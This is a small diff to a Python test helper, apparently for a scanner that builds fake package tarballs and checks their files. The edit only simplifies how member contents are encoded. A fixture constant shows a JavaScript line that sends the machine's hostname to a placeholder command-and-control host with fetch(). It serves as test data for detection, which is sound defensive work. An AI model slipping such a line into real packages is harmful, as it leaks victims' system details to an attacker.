@@ -10,9 +10,7 @@ HOST = "fetch('https://c2.example.invalid/?' + require('os').hostname());"
 
 
 def looked(**files: str) -> Look:
-    members = [
-        Member(f"package/{path}", len(text.encode()), lambda text=text: text.encode()) for path, text in files.items()
-    ]  # type: ignore[misc]  # mypy cannot infer a lambda with a default
+    members = [Member(f"package/{path}", len(text.encode()), text.encode) for path, text in files.items()]
     return look("demo-1.0.0.tgz", members)
 
 
